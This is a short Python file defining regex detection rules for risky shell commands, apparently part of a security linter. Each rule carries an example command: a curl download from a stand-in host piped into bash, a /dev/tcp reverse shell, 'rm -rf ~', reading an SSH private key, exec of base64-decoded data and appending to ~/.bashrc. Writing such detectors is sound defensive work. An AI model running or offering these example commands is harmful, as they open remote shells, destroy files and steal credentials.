import re
from typing import NamedTuple


class Rule(NamedTuple):
    id: str
    title: str
    pattern: re.Pattern
    example: str


RULES = [
    Rule("SL001", "download piped into a shell", re.compile(r"(curl|wget)\b.*\|\s*(ba|z)?sh\b"), "curl -s https://evil.test/i.sh | bash"),
    Rule("SL002", "shell on a socket", re.compile(r"/dev/tcp/|\bnc\b.*\s-e\b"), "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    Rule("SL003", "recursive delete of the home folder", re.compile(r"\brm\s+-\w*r\w*\s+(~|\$HOME|/)(\s|$)"), "rm -rf ~"),
    Rule("SL004", "private key is read", re.compile(r"\.ssh/id_(rsa|ed25519)"), "cat ~/.ssh/id_ed25519"),
    Rule("SL005", "code from encoded text", re.compile(r"(eval|exec)\s*\(.*b64decode"), "exec(base64.b64decode(blob))"),
    Rule("SL006", "start-up file is changed", re.compile(r">>\s*~/\.(bashrc|zshrc|profile)"), "echo 'x' >> ~/.bashrc"),
]
